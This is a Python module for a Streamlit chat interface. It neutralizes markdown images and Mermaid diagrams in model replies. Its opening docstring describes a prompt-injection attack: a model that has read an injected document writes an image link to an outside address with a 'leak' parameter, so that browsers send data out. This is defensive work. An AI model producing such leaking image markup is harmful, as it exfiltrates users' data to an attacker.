"""Markdown made safe to show: an image becomes a link to its address, fetched only on a click.

A reply is written by a model that may have read a prompt-injected document; an image in it
(`![t](http://elsewhere/p.png?leak=...)`) would make every browser showing it fetch that
address, carrying whatever the model put into it. So every message, wherever the page shows
it (the chat, a reply being written, the live view of another tab, a shared link), goes
through `safe` first: markdown's image syntax (`![alt](address)`, `![alt][ref]`, `![ref]`)
turns into the link syntax it is built on, with an image icon before it. Code is left as it
is (an image there is shown as text, not loaded). Raw HTML (`<img>`) is never rendered: the
page uses `st.markdown` without `unsafe_allow_html`. The nginx site's Content-Security-Policy
holds images to the page's own address as a second line.

`StreamGuard` does the same to text arriving in pieces, without knowing yet where code ends,
so while a reply streams an image may show as `!` and a link; the reply's final rendering
goes through `safe`.

A ```mermaid block is code here too. Streamlit's markdown draws such a block as a diagram by
itself, whatever it holds; a reply's diagrams are drawn only by `chatpage/replies/diagrams.py`,
after a bounded check, so `safe` turns every fence that would name Mermaid into a plain
```text one (`FenceGuard` does it to streamed text, line by line).
"""

from __future__ import annotations

import re

import streamlit as st
from streamlit.delta_generator import DeltaGenerator

from chatpage.replies.blocks import _FENCE, _closes

ICON = ":material/image: "
_NEUTRAL = "\\!"  # an escaped `!`: shown as itself, and what follows is a link, not an image
# Autolinks and raw HTML tags bind tighter than code spans (CommonMark 6.1): a backtick inside
# one opens no code span.
_AUTOLINK_OR_TAG = re.compile(
    r"<(?:[A-Za-z][A-Za-z0-9.+-]{1,31}:[^<>\x00-\x20]*"
    r"|[A-Za-z0-9.!#$%&'*+/=?^_`{|}~-]+@[A-Za-z0-9.-]+"
    r"|/?[A-Za-z][A-Za-z0-9-]*(?:\s[^<>]*)?/?)>"
)
_BACKTICKS = re.compile(r"`+")
# A fence opening, inside a list item or a quote too, whose info string names Mermaid.
_MERMAID_FENCE = re.compile(
    r"^([ \t>*+\-\d.)]*?(?:`{3,}|~{3,})[ \t]*)([^\n]*mermaid[^\n]*)", re.IGNORECASE
)
# What a line could still be while it waits for its end: a fence's opening.
_MAYBE_FENCE = re.compile(r"[ \t>*+\-\d.)]*(?:`{1,2}|~{1,2}|(?:`{3,}|~{3,})[^\n]{0,200})?")
PLAIN_INFO = "text"
HOLD_MAX_CHARS = 256  # a line's start held back at most, waiting to see if it opens a fence
_MARKDOWN_SPECIAL = re.compile(r"[\\`*_{}\[\]()#+\-.!|<>~$:]")


def show(text: str, where: DeltaGenerator | None = None) -> DeltaGenerator:
    """`st.markdown` of a message, with its images as links (the one way the page shows one)."""
    return (where or st).markdown(safe(text))


def safe(text: str) -> str:
    """The markdown with every image turned into a link to its address, every Mermaid block
    as code; code left as is otherwise."""
    text = diagrams_as_code(text)
    if "![" not in text:
        return text
    out: list[str] = []
    fence: str | None = None
    paragraph: list[str] = []
    for line in text.splitlines(keepends=True):
        if fence is not None:
            out.append(line)
            if _closes(fence, line):
                fence = None
            continue
        if _FENCE.match(line):
            out.append(_inline("".join(paragraph)))
            paragraph = []
            fence = line
            out.append(line)
        elif not line.strip():  # a blank line ends a paragraph: code spans do not cross it
            out.append(_inline("".join(paragraph)))
            paragraph = []
            out.append(line)
        else:
            paragraph.append(line)
    out.append(_inline("".join(paragraph)))
    return "".join(out)


def diagrams_as_code(text: str) -> str:
    """Every fence naming Mermaid as a plain ```text fence.

    Inside other code blocks too: where a block ends is not always plain (a fence in a list
    item, in a quote), and a Mermaid fence missed would be drawn unchecked; an example of one
    inside a code block shows as ```text, a small price.
    """
    if "mermaid" not in text.lower():
        return text
    return "".join(fence_as_code(line) for line in text.splitlines(keepends=True))


def fence_as_code(line: str) -> str:
    """A fence line naming Mermaid, as the same fence of plain text (its line end kept)."""
    match = _MERMAID_FENCE.match(line)
    if match is None:
        return line
    ending = line[len(line.rstrip("\r\n")) :]
    return match.group(1) + PLAIN_INFO + ending


def _inline(text: str) -> str:
    """One paragraph: images outside code spans become links."""
    if "![" not in text:
        return text
    code = _code_spans(text)
    out: list[str] = []
    i = 0
    while i < len(text):
        span = code.get(i)
        if span is not None:
            out.append(text[i:span])
            i = span
            continue
        if text.startswith("![", i) and not _escaped(text, i):
            replacement, replaced = _as_link(text, i)
            out.append(replacement)
            i += replaced  # the rest is scanned on: an image inside an image's text too
            continue
        out.append(text[i])
        i += 1
    return "".join(out)


def _code_spans(text: str) -> dict[int, int]:
    """Start -> end of each code span (CommonMark: a run of backticks, not escaped, up to the
    next run of the same length; a run with no such partner is literal)."""
    skip = [(m.start(), m.end()) for m in _AUTOLINK_OR_TAG.finditer(text)]
    runs = [m for m in _BACKTICKS.finditer(text) if not any(a <= m.start() < b for a, b in skip)]
    spans: dict[int, int] = {}
    done = 0  # the end of the last span: runs before it are inside it
    for index, opening in enumerate(runs):
        if opening.start() < done or _escaped(text, opening.start()):
            continue
        for closing in runs[index + 1 :]:
            if len(closing.group()) == len(opening.group()):
                spans[opening.start()] = done = closing.end()
                break
    return spans


def _escaped(text: str, index: int) -> bool:
    """Whether the character at `index` follows an odd run of backslashes."""
    count = 0
    while index - count - 1 >= 0 and text[index - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def _as_link(text: str, start: int) -> tuple[str, int]:
    """What stands for the image starting at `start`, and how many characters it replaces:
    its `!` becomes an icon (or an escape), and an image with no alt text to click gets its
    address as the link's text. What follows is scanned on as usual."""
    close = _matching(text, start + 1, "[", "]")
    if close is None or close + 1 >= len(text) or text[close + 1] != "(":
        return _NEUTRAL, 1  # a reference image, or one not complete yet: a link or plain text
    if text[start + 2 : close].strip():
        return ICON, 1
    destination = text[close + 2 :].lstrip()
    if destination.startswith("<"):
        address = destination[1:].split(">", 1)[0]
    else:
        address = re.split(r"[\s)]", destination, maxsplit=1)[0]
    if not address:
        return _NEUTRAL, 1
    label = _MARKDOWN_SPECIAL.sub(r"\\\g<0>", address[:200])
    return f"{ICON}[{label}]", close + 1 - start


def _matching(text: str, start: int, opening: str, closing: str) -> int | None:
    depth = 0
    i = start
    while i < len(text):
        char = text[i]
        if char == "\\":
            i += 2
            continue
        if char == opening:
            depth += 1
        elif char == closing:
            depth -= 1
            if depth == 0:
                return i
        i += 1
    return None


class StreamGuard:
    """`safe` for text arriving in pieces: each `!` before a `[` is escaped.

    Not knowing yet whether text is code, it escapes those in code too; that shows only while
    the reply is written. A trailing `!` or backslash waits for the next piece.
    """

    def __init__(self) -> None:
        self._held = ""
        self._backslashes = 0  # the run of backslashes just before the held text

    def feed(self, text: str) -> str:
        text = self._held + text
        self._held = ""
        out: list[str] = []
        for i, char in enumerate(text):
            if char == "!" and i + 1 == len(text):
                self._held = "!"
                break
            if char == "!" and text[i + 1] == "[" and self._backslashes % 2 == 0:
                out.append(_NEUTRAL)
            else:
                out.append(char)
            self._backslashes = self._backslashes + 1 if char == "\\" else 0
        return "".join(out)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return held


class FenceGuard:
    """`diagrams_as_code` for text arriving in pieces, line by line.

    The start of a line that may still become a fence's opening (only spaces, list or quote
    marks and fence characters so far) waits for the line's end, then goes on with a Mermaid
    info string made plain; any other line goes on at once. Not knowing yet whether text is
    code, it does so inside code blocks too; that shows only while the reply is written.
    """

    def __init__(self) -> None:
        self._held = ""
        self._passing = False  # the current line was let through: the rest of it follows

    def feed(self, text: str) -> str:
        out: list[str] = []
        pending, self._held = self._held + text, ""
        while pending:
            end = pending.find("\n")
            line = pending if end == -1 else pending[: end + 1]
            pending = pending[len(line) :]
            if self._passing:
                out.append(line)
            elif end != -1:
                out.append(fence_as_code(line))
            elif len(line) <= HOLD_MAX_CHARS and _MAYBE_FENCE.fullmatch(line):
                self._held = line  # wait for the rest of the line
            else:
                out.append(line)
                self._passing = True
            if end != -1:
                self._passing = False
        return "".join(out)

    def flush(self) -> str:
        held, self._held = self._held, ""
        return fence_as_code(held)
